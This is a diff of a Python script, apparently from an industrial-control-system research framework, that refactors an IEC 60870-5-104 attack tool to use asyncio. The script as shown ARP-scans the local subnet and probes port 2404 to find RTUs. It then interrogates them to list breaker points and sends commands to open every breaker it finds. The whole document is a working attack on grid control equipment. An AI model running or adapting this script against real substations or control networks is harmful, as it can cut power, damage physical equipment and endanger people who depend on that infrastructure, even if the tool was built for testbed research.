@@ -1,21 +1,111 @@
 #!/usr/bin/env python3
 
 import sys
-from threading import Thread
-import socket
-from time import sleep
+import asyncio
+import ipaddress
 from prompt_toolkit.shortcuts import run_application
 from PyInquirer.prompts.list import question
 from netifaces import AF_LINK, AF_INET, ifaddresses, interfaces
-from scapy.sendrecv import sr1
-from scapy.layers.l2 import ARP
-import ipaddress
+from scapy.sendrecv import srp
+from scapy.layers.l2 import ARP, Ether
 
 # NEFICS imports
-from nefics.IEC104.dissector import APDU
-from iec104 import IEC104, get_command
+from nefics.master import Master, IEC104_PORT
+
+ARP_TIMEOUT = 2             # Seconds to wait for ARP replies after the last request is sent
+ARP_RETRY = 1               # Extra passes for the hosts that did not answer
+PROBE_CONCURRENCY = 512     # Simultaneous TCP connection attempts
+PROBE_TIMEOUT = 1           # Seconds to wait for each TCP connection
+BROADCAST_ASDU = 0xFFFF     # Global common address (general interrogation of an unknown RTU)
+
+def arpscan(iface: str, address: dict, hosts: list) -> list:
+    '''
+    Send the ARP requests for every host in a single send/receive pass.
+    Returns the addresses that answered.
+    '''
+    targets = [str(h) for h in hosts if str(h) != address['addr']]
+    if len(targets) == 0:
+        return []
+    answered, _ = srp(
+        Ether(dst='ff:ff:ff:ff:ff:ff') / ARP(op=0x1, psrc=address['addr'], pdst=targets),
+        iface=iface, timeout=ARP_TIMEOUT, retry=-ARP_RETRY, verbose=0
+    )
+    alive = []
+    for _, response in answered:
+        if response.haslayer('ARP') and response['ARP'].op == 0x2 and response['ARP'].psrc not in alive:
+            alive.append(response['ARP'].psrc)
+    return alive
 
-IEC104_PORT = 2404
+async def probe(host: str, semaphore: asyncio.Semaphore, port: int=IEC104_PORT) -> bool:
+    async with semaphore:
+        try:
+            _, writer = await asyncio.wait_for(asyncio.open_connection(host, port), PROBE_TIMEOUT)
+        except (asyncio.TimeoutError, OSError):
+            return False
+        writer.close()
+        try:
+            await writer.wait_closed()
+        except OSError:
+            pass
+        return True
+
+async def rtuscan(hosts: list, port: int=IEC104_PORT, concurrency: int=PROBE_CONCURRENCY) -> list:
+    '''
+    Probe the IEC 104 port of every host concurrently, with at most
+    `concurrency` pending connections. Returns the hosts accepting it.
+    '''
+    semaphore = asyncio.Semaphore(concurrency)
+    results = await asyncio.gather(*[probe(h, semaphore, port) for h in hosts])
+    return [h for h, open_port in zip(hosts, results) if open_port]
+
+async def breakerscan(master: Master, rtus: list) -> dict:
+    '''
+    Run a general interrogation on every RTU and collect the IOAs of
+    the double points (breakers). Returns RTU address -> list of IOAs.
+    '''
+    breakers = {}
+    common_address = {}
+    def collect(m: dict):
+        common_address[m['rtu']] = m['ca']
+        if m['type'] == 0x3 and m['cot'] == 20 and m['ioa'] not in breakers.setdefault(m['rtu'], []):
+            breakers[m['rtu']].append(m['ioa'])
+    async def interrogate(rtu: str):
+        try:
+            session = await master.connect(rtu, BROADCAST_ASDU)
+        except ConnectionError:
+            print('   [!] Unable to connect to {0:s}'.format(rtu))
+            return
+        if not await session.startdt() or await session.interrogate() is None:
+            print('   [!] RTU in {0:s} did not answer the general interrogation'.format(rtu))
+        if rtu in common_address:
+            session.asdu = common_address[rtu]
+    master.subscribe(collect)
+    try:
+        await asyncio.gather(*[interrogate(r) for r in rtus])
+    finally:
+        master.unsubscribe(collect)
+    return {k: sorted(v) for k, v in breakers.items() if len(v) > 0}
+
+async def attack(hosts: list):
+    print('[+] Scanning for RTUs ...')
+    rtus = await rtuscan(hosts)
+    for r in rtus:
+        print('   [!] Found RTU at {0:s}'.format(r))
+    print('[+] Scanning complete !')
+    print('[+] Probing RTUs ...')
+    master = Master()
+    try:
+        breakers = await breakerscan(master, rtus)
+        for k, ioas in breakers.items():
+            print('   [!] RTU in {0:s} has breakers. IOAs: {1:s}'.format(k, ', '.join(str(i) for i in ioas)))
+        print('[+] Opening all breakers ...')
+        results = await master.commands([(k, ioa, 0) for k, ioas in breakers.items() for ioa in ioas])
+        for (k, ioa), done in results.items():
+            print('   [{0:s}] {1:s} IOA {2:d}'.format('#' if done else '!', k, ioa))
+        print('[+] Done!')
+    finally:
+        print('[+] Closing connections ...')
+        await master.close()
 
 if __name__ == '__main__':
     iface = run_application(
@@ -28,107 +118,10 @@ if __name__ == '__main__':
     print('[+] Using ' + str(iface))
     address = ifaddresses(iface)[AF_INET][0]
     subnet = ipaddress.ip_network(address['addr'] + '/' + address['netmask'], strict=False)
-    nethosts = list(subnet.hosts())
     print('[+] Searching for live hosts in {0:s} ...'.format(str(subnet)))
-    alive = []
-    def arpscan(hosts: list):
-        global alive
-        global address
-        for host in hosts:
-            if str(host) != address['addr']:
-                print('[-] Trying {0:s} ...\r'.format(str(host)), end='')
-                response = sr1(ARP(op=0x1, psrc=address['addr'], pdst=str(host)), retry=0, timeout=1, verbose=0)
-                if response is not None and response.haslayer('ARP') and response['ARP'].op == 0x2:
-                    print('   [!] {0:s} is alive'.format(str(host)))
-                    alive.append(str(host))
-    threads = []
-    for hosts in [nethosts[i:i + 16] for i in range(0, len(nethosts), 16)]:
-        t = Thread(target=arpscan, kwargs={'hosts': hosts})
-        t.start()
-        threads.append(t)
-    while len(threads):
-        for t in threads:
-            t.join(1)
-            if not t.is_alive():
-                threads.pop(threads.index(t))
-    print('[+] Scanning for RTUs ...')
-    rtus = []
+    alive = arpscan(iface, address, subnet.hosts())
     for host in alive:
-        if host != address['addr']:
-            sport = scapy.RandShort()
-            print('[-] Trying {0:s} ...\r'.format(host), end='')
-            response = scapy.sr1(scapy.IP(src=address['addr'], dst=host)/scapy.TCP(sport=sport, dport=IEC104_PORT, flags='S'), iface=iface, timeout=0.1, retry=0, verbose=0)
-            if response is None:
-                # Filtered
-                pass
-            elif response.haslayer('TCP'):
-                if response['TCP'].flags == 0x12:
-                    # Open port -- Probably an RTU
-                    reset = scapy.sr(scapy.IP(src=address['addr'], dst=host)/scapy.TCP(sport=sport, dport=IEC104_PORT, flags='R'), iface=iface, timeout=0.1, verbose=0)
-                    print('   [!] Found RTU at %s' % str(host))
-                    rtus.append(str(host))
-                elif response['TCP'].flags == 0x14:
-                    # Closed
-                    pass
-            elif response.haslayer('ICMP') and response['ICMP'].type == 3 and response['ICMP'].code in [1, 2, 3, 9, 10, 13]:
-                # Filtered
-                pass
-    print('[+] Scanning complete !' + ' '*20)
-    print('[+] Probing RTUs ...')
-    rtu_comm = {}
-    rtu_data = {}
-    rtu_threads = {}
-    rtu_thred_killswitch = {}
-    rtu_hasbreakers = {}
-    def handle_rtu(s: socket.socket, k: str):
-        global rtu_data
-        global rtu_thred_killswitch
-        global rtu_hasbreakers
-        if k not in rtu_data.keys():
-            rtu_data[k] = {'ioas': {}}
-        while not rtu_thred_killswitch[k]:
-            try:
-                data = s.recv(1024)
-                apdu = APDU(data)
-                data = get_command(apdu)
-                rtu_data[k]['tx'] = data['tx']
-                rtu_data[k]['rx'] = data['rx']
-                value = data['value']
-                if apdu['ASDU'].TypeId == 0x3:
-                    if k not in rtu_hasbreakers.keys():
-                        rtu_hasbreakers[k] = {}    
-                        rtu_hasbreakers[k]['ioas'] = []
-                        print('   [!] RTU in {0:s} has breakers'.format(k))
-                    if data['ioa'] not in rtu_hasbreakers[k]['ioas']:
-                        rtu_hasbreakers[k]['ioas'].append(data['ioa'])
-                        print('   [!] New breaker found in {0:s}. IOA: {1:d}'.format(k, data['ioa']))
-            except (socket.timeout, KeyError, IndexError):
-                pass
-    for r in rtus:
-        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP)
-        s.settimeout(0.3)
-        try:
-            rtu_comm[r] = s
-            rtu_threads[r] = Thread(target=handle_rtu, kwargs={'s': s, 'k': r})
-            rtu_thred_killswitch[r] = False
-            s.connect((r, IEC104_PORT))
-            rtu_threads[r].start()
-        except socket.error:
-            pass
-    sleep(30)
-    print('[+] Opening all breakers ...')
-    for k, v in rtu_hasbreakers.items():
-        print('   [-] Opening breakers in {0:s} ...'.format(k))
-        for ioa in v['ioas']:
-            print('      [#] Opening IOA {:d} ...'.format(ioa))
-            rtu_data[k]['tx'] += 1
-            data = IEC104(50, ioa).get_apdu(0, rtu_data[k]['tx'], rtu_data[k]['rx'], 1)
-            rtu_comm[k].send(data)
-            sleep(2)
-    print('[+] Done!')
-    print('[+] Closing connections ...')
-    for r in rtus:
-        rtu_thred_killswitch[r] = True
-        rtu_threads[r].join()
-        rtu_comm[r].close()
+        print('   [!] {0:s} is alive'.format(host))
+    asyncio.run(attack(alive))
     print('[+] Bye!')
+    sys.exit(0)